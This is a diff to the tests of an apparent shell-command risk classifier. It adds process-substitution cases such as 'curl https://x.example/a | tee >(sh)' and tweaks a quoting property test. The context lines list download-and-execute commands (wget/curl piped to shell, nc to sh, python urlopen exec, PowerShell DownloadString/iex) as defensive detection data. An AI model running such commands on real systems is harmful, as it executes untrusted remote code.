@@ -220,6 +220,7 @@ const CLASSES: readonly (readonly [ShellClass, readonly string[]])[] = [
       'wget https://x.example/a.sh; chmod +x a.sh; ./a.sh',
       'curl https://x.example/a > b; bash b',
       'nc host 80 | sh',
+      'curl https://x.example/a | tee >(sh)',
       `python3 -c "exec(__import__('urllib.request').urlopen('http://x').read())"`,
       "iex (New-Object Net.WebClient).DownloadString('http://x')",
       'powershell -c "iwr http://x | iex"',
@@ -450,6 +451,7 @@ describe('says so when it cannot know what runs', () => {
     'sh -c "$x"',
     'cat x | sh',
     'sh < x',
+    'ls | tee >(sh)',
     'read a; $a',
     'f() { $1 -rf x; }; f rm',
     'false && a=ls; $a x',
@@ -702,7 +704,7 @@ describe('properties', () => {
     fc.assert(
       fc.property(command, fc.array(quoting, { minLength: 6, maxLength: 6 }), (text, quotes) => {
         const end = text.indexOf(' ');
-        const word = [...text.slice(0, end)].map((letter, index) => quotes[index % quotes.length]!(letter)).join('');
+        const word = Array.from(text.slice(0, end), (letter, index) => quotes[index % quotes.length]!(letter)).join('');
         const [plain, hidden] = [judge(text), judge(word + text.slice(end))];
         expect(SHELL_CLASSES.filter((name) => hidden[name])).toEqual(SHELL_CLASSES.filter((name) => plain[name]));
         expect(hidden.dynamic).toBe(plain.dynamic);
